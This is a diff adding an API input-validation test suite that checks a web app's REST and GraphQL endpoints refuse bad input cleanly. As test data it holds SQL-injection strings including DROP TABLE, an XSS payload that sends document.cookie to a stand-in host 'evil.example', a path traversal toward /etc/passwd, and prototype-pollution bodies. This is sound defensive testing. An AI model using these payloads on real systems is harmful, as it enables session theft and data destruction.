@@ -1,0 +1,648 @@
+import sharp from 'sharp';
+import { existsSync, readdirSync } from 'node:fs';
+import { join } from 'node:path';
+import { bootApp, TestApp } from './helpers/test-app';
+import { ApiClient, GqlResponse, RestResponse } from './helpers/api-client';
+import { expectGqlError, expectRestError, expectSafeMessage } from './helpers/safe-error';
+import { createInvestor, DEFAULT_PASSWORD, uniqueEmail } from './factories/users';
+
+/**
+ * Whatever a caller sends, the answer is a 4xx with the API's error shape and a plain message
+ * (no stack, SQL or paths), and the database is as it was. Cases that still fail are marked
+ * `it.failing` with the bug they show; they start failing (and must be flipped) once fixed.
+ */
+
+const SQL = "' OR 1=1 --";
+const SQL_DROP = "x'); DROP TABLE users; --";
+const HTML = '<script>alert(1)</script>';
+const HTML_IMG = '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">';
+
+let serial = 0;
+const uname = () => `bad_${Date.now().toString(36)}${serial++}`;
+
+type Caller = 'anonymous' | 'investor';
+interface RestEndpoint {
+  name: string;
+  path: string;
+  as: Caller;
+  /** A body that passes the validation pipe (the cases break one thing at a time). */
+  body: () => Record<string, unknown>;
+  /** The fields that must be strings. */
+  strings: string[];
+}
+
+const ENDPOINTS: RestEndpoint[] = [
+  {
+    name: 'account/register',
+    path: '/api/account/register',
+    as: 'anonymous',
+    body: () => ({ fullName: 'Eve Example', username: uname(), email: uniqueEmail('eve'), password: 'correct horse battery', referralId: '' }),
+    strings: ['fullName', 'username', 'email', 'password', 'referralId'],
+  },
+  {
+    name: 'account/login',
+    path: '/api/account/login',
+    as: 'anonymous',
+    body: () => ({ email: 'nobody@example.com', password: 'not the password' }),
+    strings: ['email', 'password'],
+  },
+  {
+    name: 'update/profile',
+    path: '/api/update/profile',
+    as: 'investor',
+    body: () => ({ fullname: 'Eve Example', username: uname(), phone: '5550100', telegram: '@eve', gender: 'Female', date_of_birth: '1990-01-01' }),
+    strings: ['fullname', 'username', 'phone', 'telegram', 'gender', 'date_of_birth'],
+  },
+  {
+    name: 'update/address',
+    path: '/api/update/address',
+    as: 'investor',
+    body: () => ({ address1: '1 Main St', address2: 'Flat 2', city: 'Lagos', state: 'Lagos', zipcode: '100001', country: 'Nigeria', nationality: 'Nigerian' }),
+    strings: ['address1', 'address2', 'city', 'state', 'zipcode', 'country', 'nationality'],
+  },
+  {
+    name: 'contact_us',
+    path: '/api/contact_us',
+    as: 'anonymous',
+    body: () => ({ fullname: 'Eve Example', email: 'eve@example.com', subject: 'Enquiry', message: 'Hello there', captcha: '7' }),
+    strings: ['fullname', 'email', 'subject', 'message', 'captcha'],
+  },
+  {
+    name: 'account/forgot_password',
+    path: '/api/account/forgot_password',
+    as: 'anonymous',
+    body: () => ({ email: 'nobody@example.com' }),
+    strings: ['email'],
+  },
+  {
+    name: 'account/reset_password',
+    path: '/api/account/reset_password',
+    as: 'anonymous',
+    body: () => ({ token: 'not-a-real-token', password: 'a new passphrase' }),
+    strings: ['token', 'password'],
+  },
+];
+
+const WRONG_TYPES: Array<[string, unknown]> = [
+  ['a number', 42],
+  ['an array', ['x']],
+  ['an object', { $ne: null }],
+  ['a boolean', true],
+];
+
+/**
+ * Known bugs, outside the modules this suite may fix (reported):
+ * - auth: login passes the body to passport-local before any validation, so a number or a
+ *   boolean as email or password reaches `.trim()` / argon2 and answers 500;
+ * - auth: the login guard runs before the validation pipe, so unknown fields are not refused
+ *   (a wrong password answers 401, a right one signs in and then answers 400);
+ * - app: the global validation pipe (class-transformer) recurses without a limit, so a value
+ *   nested some thousands of levels deep (well under 100 KB) answers 500.
+ */
+const KNOWN_WRONG_TYPES: Record<string, string[]> = {
+  'account/login: email': ['a number', 'a boolean'],
+  'account/login: password': ['a number', 'a boolean'],
+};
+const KNOWN_BUGS = new Set([
+  'account/login: an unknown field',
+  'account/register: a value nested 10000 levels deep',
+  'update/profile: a value nested 10000 levels deep',
+  'update/address: a value nested 10000 levels deep',
+  'contact_us: a value nested 10000 levels deep',
+  'account/forgot_password: a value nested 10000 levels deep',
+  'account/reset_password: a value nested 10000 levels deep',
+]);
+const showKnown = !!process.env.SHOW_KNOWN_BUGS; // run them as plain tests to see how they fail
+const itUnlessKnown = (label: string) => (KNOWN_BUGS.has(label) && !showKnown ? it.failing : it);
+
+describe('bad input is refused cleanly (REST and GraphQL, real Postgres)', () => {
+  let t: TestApp;
+  let anonymous: ApiClient;
+  let investor: { client: ApiClient; email: string; user: { id: string } };
+
+  beforeAll(async () => {
+    t = await bootApp();
+    anonymous = t.client();
+    await anonymous.fetchCsrf();
+    investor = await createInvestor(t);
+  });
+  afterAll(() => t.close());
+
+  const clientFor = (as: Caller) => (as === 'anonymous' ? anonymous : investor.client);
+
+  /** Row counts of the tables a request could write, and the investor's own row. */
+  async function snapshot() {
+    const { rows } = await t.db.query(
+      `SELECT
+        (SELECT count(*)::int FROM users) AS users,
+        (SELECT count(*)::int FROM contact_messages) AS contact_messages,
+        (SELECT count(*)::int FROM mail_outbox) AS mail_outbox,
+        (SELECT count(*)::int FROM password_reset_tokens) AS reset_tokens,
+        (SELECT max(updated_at) FROM users) AS last_user_update,
+        (SELECT row_to_json(u) FROM users u WHERE id = $1) AS me`,
+      [investor.user.id],
+    );
+    return rows[0];
+  }
+
+  async function expectRefusedAndUnchanged(call: () => Promise<RestResponse>, status?: number): Promise<RestResponse> {
+    const before = await snapshot();
+    const res = await call();
+    expectRestError(res, status);
+    expect(await snapshot()).toEqual(before);
+    return res;
+  }
+
+  const postRaw = (client: ApiClient, path: string, body: string, contentType = 'application/json') =>
+    client.post(path, body, { headers: { 'content-type': contentType } });
+
+  describe.each(ENDPOINTS.map((e) => [e.name, e] as const))('POST %s', (name, endpoint) => {
+    const post = (body: unknown, init?: RequestInit & { csrf?: boolean }) => clientFor(endpoint.as).post(endpoint.path, body as object, init);
+
+    it('refuses an empty body (400)', async () => {
+      await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, ''), 400);
+      await expectRefusedAndUnchanged(() => post({}), 400);
+    });
+
+    it.each([
+      ['{bad', 'The request body is not valid JSON.'],
+      ['{"a":', 'The request body is not valid JSON.'],
+      ['null', 'The request body is not valid JSON.'],
+      ['"a string"', 'The request body is not valid JSON.'],
+    ])('refuses the malformed JSON %j (400)', async (raw, message) => {
+      const res = await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, raw), 400);
+      expect(res.body.message).toBe(message);
+    });
+
+    it('refuses a JSON array and a body that is not JSON (400)', async () => {
+      await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, '[]'), 400);
+      await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, JSON.stringify([endpoint.body()])), 400);
+      await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, JSON.stringify(endpoint.body()), 'text/plain'), 400);
+    });
+
+    it('refuses a body over 100 KB (413)', async () => {
+      const big = { ...endpoint.body(), [endpoint.strings[0]]: 'x'.repeat(101 * 1024) };
+      const res = await expectRefusedAndUnchanged(() => post(big), 413);
+      expect(res.body.message).toBe('The request is too large.');
+    });
+
+    for (const field of endpoint.strings) {
+      const known = showKnown ? [] : (KNOWN_WRONG_TYPES[`${name}: ${field}`] ?? []);
+      const groups: Array<[typeof it | typeof it.failing, Array<[string, unknown]>]> = [
+        [it, WRONG_TYPES.filter(([typeName]) => !known.includes(typeName))],
+        [it.failing, WRONG_TYPES.filter(([typeName]) => known.includes(typeName))],
+      ];
+      for (const [test, types] of groups) {
+        if (!types.length) continue;
+        test(`refuses ${field} as ${types.map(([typeName]) => typeName).join(', ')} (4xx)`, async () => {
+          const before = await snapshot();
+          for (const [, value] of types) expectRestError(await post({ ...endpoint.body(), [field]: value }));
+          expect(await snapshot()).toEqual(before);
+        });
+      }
+    }
+
+    itUnlessKnown(`${name}: a value nested 10000 levels deep`)('refuses a value nested 10000 levels deep (4xx)', async () => {
+      const deep = '{"a":'.repeat(10000) + '1' + '}'.repeat(10000);
+      const json = JSON.stringify({ ...endpoint.body(), [endpoint.strings[0]]: '__DEEP__' }).replace('"__DEEP__"', deep);
+      expect(json.length).toBeLessThan(100 * 1024);
+      await expectRefusedAndUnchanged(() => postRaw(clientFor(endpoint.as), endpoint.path, json));
+    });
+
+    itUnlessKnown(`${name}: an unknown field`)('refuses an unknown field (400 "property … should not exist")', async () => {
+      const res = await expectRefusedAndUnchanged(() => post({ ...endpoint.body(), hacker: 'x' }), 400);
+      expect(res.body.message).toBe('property hacker should not exist');
+    });
+
+    it('refuses a call without the CSRF token (403)', async () => {
+      const res = await expectRefusedAndUnchanged(() => post(endpoint.body(), { csrf: false }), 403);
+      expect(res.body.code).toBe('CSRF');
+      await expectRefusedAndUnchanged(() => post(endpoint.body(), { csrf: false, headers: { 'x-csrf-token': '' } }), 403);
+    });
+
+    it.each([SQL_DROP, HTML_IMG])('never fails on %j in any text field (stored verbatim or refused, never a 500)', async (text) => {
+      for (const field of endpoint.strings) {
+        const res = await post({ ...endpoint.body(), [field]: text });
+        expect(res.status).toBeLessThan(500);
+        expect(res.headers.get('content-type')).toMatch(/application\/json/);
+        if (res.status >= 400) expectRestError(res);
+      }
+      // the tables are still there
+      expect((await t.db.query(`SELECT count(*)::int AS n FROM users`)).rows[0].n).toBeGreaterThan(0);
+    });
+  });
+
+  describe('injection text is data', () => {
+    it('register stores SQL and HTML in the full name verbatim; the password may hold them too', async () => {
+      for (const fullName of [SQL_DROP, HTML_IMG]) {
+        const email = uniqueEmail('inj');
+        const password = `${SQL} ${HTML}`;
+        const client = t.client();
+        expect((await client.register({ email, fullName, password })).status).toBe(200);
+        const row = await t.db.query(`SELECT fullname FROM users WHERE email = $1`, [email]);
+        expect(row.rows).toEqual([{ fullname: fullName }]);
+        const login = await client.login(email, password);
+        expect(login.status).toBe(200);
+        expect(login.body.data.fullname).toBe(fullName);
+      }
+    });
+
+    it('register refuses SQL and HTML as a username or an email, and creates no user', async () => {
+      for (const text of [SQL, HTML]) {
+        const before = await snapshot();
+        const byName = await anonymous.post('/api/account/register', { fullName: 'Eve', username: text, email: uniqueEmail(), password: DEFAULT_PASSWORD });
+        expectRestError(byName, 400);
+        expect(byName.body.message).toContain('Username must be');
+        const byEmail = await anonymous.post('/api/account/register', { fullName: 'Eve', username: uname(), email: text, password: DEFAULT_PASSWORD });
+        expectRestError(byEmail, 400);
+        expect(byEmail.body.message).toBe('Please enter a valid email address.');
+        expect(await snapshot()).toEqual(before);
+      }
+    });
+
+    it('login with SQL as email or password is an ordinary wrong sign-in (401) and signs nobody in', async () => {
+      const client = t.client();
+      await client.fetchCsrf();
+      for (const [email, password] of [
+        [SQL, 'whatever password'],
+        [`${investor.email}' --`, 'whatever password'],
+        [investor.email, SQL],
+        [investor.email, "' OR '1'='1"],
+      ]) {
+        const res = await client.post('/api/account/login', { email, password });
+        expectRestError(res, 401);
+        expect(res.body.message).toBe('Invalid email or password.');
+      }
+      expectRestError(await client.get('/api/check-auth'), 401);
+    });
+
+    // Known bug (auth, reported): the login guard signs in before the validation pipe refuses the body.
+    it.failing('login with an unknown field is refused and signs nobody in', async () => {
+      const { email } = await createInvestor(t);
+      const client = t.client();
+      await client.fetchCsrf();
+      const res = await client.post('/api/account/login', { email, password: DEFAULT_PASSWORD, hacker: 'x' });
+      expectRestError(res, 400);
+      expectRestError(await client.get('/api/check-auth'), 401);
+    });
+
+    it('profile and address store SQL and HTML verbatim in free-text fields and refuse them where a format applies', async () => {
+      const { client, user } = await createInvestor(t);
+      const profile = await client.post('/api/update/profile', { fullname: HTML_IMG, username: uname(), phone: '5550100', telegram: SQL_DROP });
+      expect(profile.status).toBe(200);
+      const address = await client.post('/api/update/address', { address1: SQL, address2: HTML, city: SQL_DROP, state: HTML_IMG, country: `${HTML}${SQL}` });
+      expect(address.status).toBe(200);
+      const row = await t.db.query(`SELECT fullname, telegram, address1, address2, city, state, country FROM users WHERE id = $1`, [user.id]);
+      expect(row.rows[0]).toEqual({ fullname: HTML_IMG, telegram: SQL_DROP, address1: SQL, address2: HTML, city: SQL_DROP, state: HTML_IMG, country: `${HTML}${SQL}` });
+      // answered as JSON data, exactly as stored
+      const me = await client.get<{ data: Record<string, string> }>('/api/check-auth');
+      expect(me.headers.get('content-type')).toMatch(/application\/json/);
+      expect(me.body.data).toMatchObject({ fullname: HTML_IMG, address1: SQL, address2: HTML });
+
+      for (const patch of [{ username: SQL }, { username: HTML }, { phone: SQL }, { phone: HTML }, { gender: SQL }, { date_of_birth: SQL }]) {
+        const before = await t.db.query(`SELECT * FROM users WHERE id = $1`, [user.id]);
+        const res = await client.post('/api/update/profile', { fullname: 'Eve', username: uname(), phone: '5550100', ...patch });
+        expectRestError(res, 400);
+        expect((await t.db.query(`SELECT * FROM users WHERE id = $1`, [user.id])).rows).toEqual(before.rows);
+      }
+    });
+
+    it('contact_us stores SQL and HTML verbatim in the message and in the mail to support', async () => {
+      const client = t.client();
+      await client.fetchCsrf();
+      const question = (await client.get<{ question: string }>('/api/account/captcha')).body.question;
+      const [, a, b] = /What is (\d) \+ (\d)\?/.exec(question)!;
+      const email = uniqueEmail('inj');
+      const message = `${SQL}\n${SQL_DROP}\n${HTML}\n${HTML_IMG}`;
+      const res = await client.post('/api/contact_us', { fullname: HTML, email, subject: 'Other Issues', message, captcha: String(+a + +b) });
+      expect(res.body).toEqual({ status: 'success', message: 'Your message has been sent successfully' });
+      const stored = await t.db.query(`SELECT fullname, message FROM contact_messages WHERE email = $1`, [email]);
+      expect(stored.rows).toEqual([{ fullname: HTML, message }]);
+      const mail = await t.db.query(`SELECT text FROM mail_outbox WHERE reply_to = $1`, [email]);
+      expect(mail.rows[0].text).toContain(message);
+    });
+
+    it('forgot_password and reset_password refuse SQL and HTML without touching tokens or users', async () => {
+      for (const text of [SQL, SQL_DROP, HTML]) {
+        const forgot = await expectRefusedAndUnchanged(() => anonymous.post('/api/account/forgot_password', { email: text }), 400);
+        expect(forgot.body.message).toBe('Please enter a valid email address.');
+        const reset = await expectRefusedAndUnchanged(() => anonymous.post('/api/account/reset_password', { token: text, password: 'a new passphrase' }), 400);
+        expect(reset.body.message).toContain('invalid or has expired');
+      }
+    });
+
+    it('a __proto__ or constructor key grants nothing and pollutes nothing', async () => {
+      for (const key of ['__proto__', 'constructor']) {
+        const email = uniqueEmail('proto');
+        const body = `{"${key}":{"isAdmin":true,"is_admin":true,"admin":1,"prototype":{"isAdmin":true}},"fullName":"Eve","username":"${uname()}","email":"${email}","password":"${DEFAULT_PASSWORD}"}`;
+        const res = await postRaw(anonymous, '/api/account/register', body);
+        expect(res.status).toBeLessThan(500);
+        if (res.status >= 400) expectRestError(res);
+        const row = await t.db.query(`SELECT is_admin FROM users WHERE email = $1`, [email]);
+        expect(row.rows.every((r) => r.is_admin === false)).toBe(true);
+      }
+      expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
+      expect(({} as Record<string, unknown>).admin).toBeUndefined();
+    });
+  });
+
+  describe('expired sessions', () => {
+    const SIGNED_IN_CALLS: Array<[string, (c: ApiClient) => Promise<RestResponse>]> = [
+      ['GET check-auth', (c) => c.get('/api/check-auth')],
+      ['POST update/profile', (c) => c.post('/api/update/profile', { fullname: 'Eve', username: uname(), phone: '5550100' })],
+      ['POST update/address', (c) => c.post('/api/update/address', { address1: 'a', state: 'b', country: 'c' })],
+      ['GET upload/delete-avatar', (c) => c.get('/api/upload/delete-avatar')],
+      ['GET account/logout', (c) => c.get('/api/account/logout')],
+    ];
+
+    it.each([
+      ['deleted', `DELETE FROM sessions WHERE sess->'passport'->>'user' = $1`],
+      ['past its expiry', `UPDATE sessions SET expire = now() - interval '1 minute' WHERE sess->'passport'->>'user' = $1`],
+    ])('answers 401 on every signed-in call when the session row is %s', async (_how, sql) => {
+      const { client, user } = await createInvestor(t);
+      await client.post('/api/update/address', { address1: 'Before', state: 'b', country: 'c' });
+      const before = await t.db.query(`SELECT * FROM users WHERE id = $1`, [user.id]);
+      expect((await t.db.query(sql, [user.id])).rowCount).toBe(1);
+
+      for (const [, call] of SIGNED_IN_CALLS) {
+        const res = await call(client);
+        expectRestError(res, 401);
+        expect(res.body.code).toBe('UNAUTHENTICATED');
+      }
+      const form = new FormData();
+      form.set('avatar', new Blob([await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } }).png().toBuffer()], { type: 'image/png' }), 'a.png');
+      expectRestError(await client.post('/api/upload/avatar', form), 401);
+      expect((await client.gql(`{ me { id } }`)).data).toEqual({ me: null });
+      expectGqlError(
+        await client.gql(`mutation($i: UpdateAddressInput!) { updateAddress(input: $i) { id } }`, { i: { address1: 'After', state: 'b', country: 'c' } }),
+        'UNAUTHENTICATED',
+      );
+      expect((await t.db.query(`SELECT * FROM users WHERE id = $1`, [user.id])).rows).toEqual(before.rows);
+    });
+  });
+
+  describe('GraphQL', () => {
+    const post = (client: ApiClient, body: string, headers: Record<string, string> = {}) =>
+      client.raw('/graphql', { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body });
+
+    async function gqlJson(res: Response): Promise<GqlResponse> {
+      const text = await res.text();
+      expect(res.headers.get('content-type')).toMatch(/application\/(graphql-response\+)?json/);
+      return { status: res.status, ...(JSON.parse(text) as Omit<GqlResponse, 'status'>) };
+    }
+
+    async function expectGqlRefusedAndUnchanged(call: () => Promise<Parameters<typeof expectGqlError>[0]>, code?: string | RegExp, status?: number) {
+      const before = await snapshot();
+      const res = await call();
+      expectGqlError(res, code);
+      if (status !== undefined) expect(res.status).toBe(status);
+      expect(res.data ?? null).toBeNull();
+      expect(await snapshot()).toEqual(before);
+      return res;
+    }
+
+    const MUTATIONS: Array<{ name: string; as: Caller; query: string; input: () => Record<string, unknown>; wrap?: boolean }> = [
+      {
+        name: 'register',
+        as: 'anonymous',
+        query: `mutation($input: RegisterInput!) { register(input: $input) { message } }`,
+        input: () => ({ fullName: 'Eve', username: uname(), email: uniqueEmail('gql'), password: DEFAULT_PASSWORD }),
+      },
+      {
+        name: 'login',
+        as: 'anonymous',
+        query: `mutation($input: LoginInput!) { login(input: $input) { id } }`,
+        input: () => ({ email: 'nobody@example.com', password: 'not the password' }),
+      },
+      {
+        name: 'updateProfile',
+        as: 'investor',
+        query: `mutation($input: UpdateProfileInput!) { updateProfile(input: $input) { id } }`,
+        input: () => ({ fullname: 'Eve', username: uname(), phone: '5550100', gender: 'Female' }),
+      },
+      {
+        name: 'updateAddress',
+        as: 'investor',
+        query: `mutation($input: UpdateAddressInput!) { updateAddress(input: $input) { id } }`,
+        input: () => ({ address1: '1 Main St', state: 'Lagos', country: 'Nigeria' }),
+      },
+      {
+        name: 'contactUs',
+        as: 'anonymous',
+        query: `mutation($input: ContactInput!) { contactUs(input: $input) { message } }`,
+        input: () => ({ fullname: 'Eve', email: 'eve@example.com', subject: 'Enquiry', message: 'Hello', captcha: '7' }),
+      },
+      {
+        name: 'requestPasswordReset',
+        as: 'anonymous',
+        query: `mutation($input: String!) { requestPasswordReset(email: $input) { message } }`,
+        input: () => ({ value: 'nobody@example.com' }),
+        wrap: false,
+      },
+      {
+        name: 'resetPassword',
+        as: 'anonymous',
+        query: `mutation($input: String!) { resetPassword(token: $input, password: "a new passphrase") { message } }`,
+        input: () => ({ value: 'not-a-real-token' }),
+        wrap: false,
+      },
+    ];
+
+    describe.each(MUTATIONS.map((m) => [m.name, m] as const))('mutation %s', (_name, m) => {
+      const variables = (input: Record<string, unknown>) => ({ input: m.wrap === false ? input.value : input });
+      const firstKey = () => Object.keys(m.input())[0];
+
+      it('refuses a number, an array, an object or a boolean where a string is expected (400 BAD_USER_INPUT)', async () => {
+        for (const [, value] of WRONG_TYPES) {
+          await expectGqlRefusedAndUnchanged(
+            () => clientFor(m.as).gql(m.query, variables({ ...m.input(), [firstKey()]: value })),
+            'BAD_USER_INPUT',
+            400,
+          );
+        }
+      });
+
+      it('refuses a missing required value and null (400 BAD_USER_INPUT)', async () => {
+        const { [firstKey()]: _dropped, ...rest } = m.input();
+        if (m.wrap !== false) await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, variables(rest)), 'BAD_USER_INPUT', 400);
+        await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, { input: null }), 'BAD_USER_INPUT', 400);
+        await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, {}), 'BAD_USER_INPUT', 400);
+      });
+
+      if (m.wrap !== false) {
+        it('refuses an unknown input field (400 BAD_USER_INPUT)', async () => {
+          const res = await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, variables({ ...m.input(), isAdmin: true })), 'BAD_USER_INPUT', 400);
+          expect(res.errors![0].message).toContain('Field "isAdmin" is not defined');
+        });
+      }
+
+      it('refuses the mutation without the CSRF token (FORBIDDEN)', async () => {
+        const res = await expectGqlRefusedAndUnchanged(() => clientFor(m.as).gql(m.query, variables(m.input()), { csrf: false }), 'FORBIDDEN');
+        expect(res.errors![0].extensions?.reason).toBe('CSRF');
+      });
+
+      it.each([SQL, SQL_DROP, HTML])('never fails on %j in the first text field', async (text) => {
+        const res = await clientFor(m.as).gql(m.query, variables({ ...m.input(), [firstKey()]: text }));
+        expect(res.status).toBeLessThan(500);
+        if (res.errors) expectGqlError(res);
+      });
+    });
+
+    it('refuses a syntax error (400 GRAPHQL_PARSE_FAILED)', async () => {
+      for (const query of ['{ me { ', 'mutation { register(input: { fullName: "a" ) { message } }', '{ me { id } } }', 'query query query']) {
+        await expectGqlRefusedAndUnchanged(() => anonymous.gql(query), 'GRAPHQL_PARSE_FAILED', 400);
+      }
+    });
+
+    it('refuses unknown fields, arguments and input fields (400 GRAPHQL_VALIDATION_FAILED)', async () => {
+      for (const query of [
+        '{ me { passwordHash } }',
+        '{ nope }',
+        '{ me(id: "someone") { id } }',
+        'mutation { updateAddress(input: { address1: "a", state: "b", country: "c", userId: "x" }) { id } }',
+        'mutation { register(input: { fullName: 1, username: "u", email: "e", password: "p" }) { message } }',
+        'mutation { dropUsers }',
+      ]) {
+        await expectGqlRefusedAndUnchanged(() => investor.client.gql(query), 'GRAPHQL_VALIDATION_FAILED', 400);
+      }
+    });
+
+    it('refuses an empty body, a non-string query, batches, string variables and an unknown operation name (400)', async () => {
+      for (const body of [
+        '',
+        '{}',
+        '{"query":123}',
+        '{"query":["{ me { id } }"]}',
+        '[{"query":"{ me { id } }"},{"query":"{ me { id } }"}]',
+        '{"query":"{ me { id } }","variables":"{}"}',
+        '{"query":"query A { me { id } }","operationName":"B"}',
+        '{"query":"query A { me { id } } query B { me { id } }"}',
+      ]) {
+        const res = await gqlJson(await post(anonymous, body));
+        expect(res.status).toBe(400);
+        expectGqlError(res);
+      }
+    });
+
+    it('answers malformed JSON and a body over 100 KB before GraphQL, in the REST error shape (400, 413)', async () => {
+      const before = await snapshot();
+      const bad = await anonymous.post('/graphql', '{bad');
+      expectRestError(bad, 400);
+      expect(bad.body.message).toBe('The request body is not valid JSON.');
+      const big = await anonymous.post('/graphql', { query: `mutation($input: ContactInput!) { contactUs(input: $input) { message } }`, variables: { input: { message: 'x'.repeat(101 * 1024) } } });
+      expectRestError(big, 413);
+      expect(big.body.message).toBe('The request is too large.');
+      expect(await snapshot()).toEqual(before);
+    });
+
+    it('refuses a mutation over GET, with or without the preflight header, and runs nothing', async () => {
+      const query = encodeURIComponent(`mutation { requestPasswordReset(email: "${investor.email}") { message } }`);
+      const variants: Array<Record<string, string>> = [
+        {},
+        { 'apollo-require-preflight': 'true' },
+        { 'content-type': 'application/json', 'x-csrf-token': investor.client.csrfToken! },
+      ];
+      for (const headers of variants) {
+        const before = await snapshot();
+        const res = await gqlJson(await investor.client.raw(`/graphql?query=${query}`, { headers }));
+        expect([400, 405]).toContain(res.status);
+        expectGqlError(res);
+        expect(res.data ?? null).toBeNull();
+        expect(await snapshot()).toEqual(before);
+      }
+      // a query over GET with the preflight header is fine
+      const ok = await gqlJson(await anonymous.raw(`/graphql?query=${encodeURIComponent('{ me { id } }')}`, { headers: { 'apollo-require-preflight': 'true' } }));
+      expect(ok).toMatchObject({ status: 200, data: { me: null } });
+    });
+
+    it('allows a query 10 levels deep and refuses 11 (GRAPHQL_VALIDATION_FAILED), also through fragments', async () => {
+      const nested = (levels: number) => {
+        // __type is level 0, fields 1, type 2, then ofType … down to `name` at `levels`
+        let inner = 'name';
+        for (let i = 0; i < levels - 3; i++) inner = `ofType { ${inner} }`;
+        return `{ __type(name: "User") { fields { type { ${inner} } } } }`;
+      };
+      const ok = await anonymous.gql<{ __type: { fields: unknown[] } }>(nested(10));
+      expect(ok.errors).toBeUndefined();
+      expect(ok.data?.__type.fields.length).toBeGreaterThan(0);
+
+      for (const levels of [11, 30]) {
+        const res = await expectGqlRefusedAndUnchanged(() => anonymous.gql(nested(levels)), 'GRAPHQL_VALIDATION_FAILED', 400);
+        expect(res.errors![0].message).toBe('The query is nested deeper than 10 levels.');
+      }
+
+      const fragments =
+        `query { __schema { ...T0 } } ` +
+        Array.from({ length: 12 }, (_, i) => `fragment T${i} on ${i === 0 ? '__Schema' : '__Type'} { ${i === 0 ? 'types' : 'ofType'} { name ${i < 11 ? `...T${i + 1}` : ''} } }`).join(' ');
+      const viaFragments = await expectGqlRefusedAndUnchanged(() => anonymous.gql(fragments), 'GRAPHQL_VALIDATION_FAILED', 400);
+      expect(viaFragments.errors![0].message).toBe('The query is nested deeper than 10 levels.');
+
+      const cycle = `query { me { ...A } } fragment A on User { id ...B } fragment B on User { email ...A }`;
+      await expectGqlRefusedAndUnchanged(() => anonymous.gql(cycle), 'GRAPHQL_VALIDATION_FAILED', 400);
+    });
+
+    // Known gap (reported): DESIGN asks for depth and cost limits; only depth is enforced, so one
+    // request may ask for the same field thousands of times (2,000 aliased __schema took seconds).
+    it.failing('refuses a query that asks for a field a thousand times (cost limit)', async () => {
+      const query = `{ ${Array.from({ length: 1000 }, (_, i) => `a${i}: me { id }`).join(' ')} }`;
+      await expectGqlRefusedAndUnchanged(() => anonymous.gql(query), /BAD_USER_INPUT|GRAPHQL_VALIDATION_FAILED/);
+    });
+
+    it('refuses a multipart upload without the apollo-require-preflight header (CSRF prevention) and stores nothing', async () => {
+      const { client, user } = await createInvestor(t);
+      const avatars = join(t.config.uploadDir, 'avatars');
+      const files = existsSync(avatars) ? readdirSync(avatars) : [];
+      const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#f00' } }).png().toBuffer();
+      const form = new FormData();
+      form.set('operations', JSON.stringify({ query: 'mutation($a: Upload!) { uploadAvatar(avatar: $a) { avatar } }', variables: { a: null } }));
+      form.set('map', JSON.stringify({ '0': ['variables.a'] }));
+      form.set('0', new Blob([png], { type: 'image/png' }), 'a.png');
+
+      const res = await gqlJson(await client.raw('/graphql', { method: 'POST', body: form }));
+      expect(res.status).toBe(400);
+      expectGqlError(res);
+      expect(res.errors![0].message).toContain('Cross-Site Request Forgery');
+      expect(res.data ?? null).toBeNull();
+      expect((await t.db.query(`SELECT avatar FROM users WHERE id = $1`, [user.id])).rows[0].avatar).toBeNull();
+      expect(existsSync(avatars) ? readdirSync(avatars) : []).toEqual(files);
+
+      // a text/plain "simple request" is blocked the same way
+      const plain = await gqlJson(
+        await client.raw('/graphql', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ query: 'mutation { deleteAvatar { id } }' }) }),
+      );
+      expect(plain.status).toBe(400);
+      expectGqlError(plain);
+    });
+
+    it('stores SQL and HTML sent through GraphQL verbatim', async () => {
+      const { client, user } = await createInvestor(t);
+      const res = await client.gql(`mutation($input: UpdateAddressInput!) { updateAddress(input: $input) { address1 city } }`, {
+        input: { address1: SQL_DROP, city: HTML_IMG, state: SQL, country: HTML },
+      });
+      expect(res.errors).toBeUndefined();
+      expect(res.data).toEqual({ updateAddress: { address1: SQL_DROP, city: HTML_IMG } });
+      const row = await t.db.query(`SELECT address1, city, state, country FROM users WHERE id = $1`, [user.id]);
+      expect(row.rows[0]).toEqual({ address1: SQL_DROP, city: HTML_IMG, state: SQL, country: HTML });
+    });
+  });
+
+  describe('unknown paths', () => {
+    it.each([
+      ['GET', '/api/nope'],
+      ['POST', '/api/nope'],
+      ['GET', '/api/nope/deeper?x=1'],
+      ['GET', '/api/nope/..%2F..%2Fetc%2Fpasswd'],
+      ['GET', '/api/update/profile'],
+    ])('%s %s answers a JSON 404', async (method, path) => {
+      const res = method === 'GET' ? await anonymous.get(path) : await anonymous.post(path, {});
+      expectRestError(res, 404);
+      expect(res.body).toEqual({ status: 'error', message: 'Not found.', code: 'NOT_FOUND' });
+    });
+
+    it('does not answer with the framework\'s own messages', async () => {
+      const res = await anonymous.get('/api/nope');
+      expectSafeMessage(res.body.message);
+      expect(res.body.message).not.toMatch(/Cannot (GET|POST)/);
+    });
+  });
+});
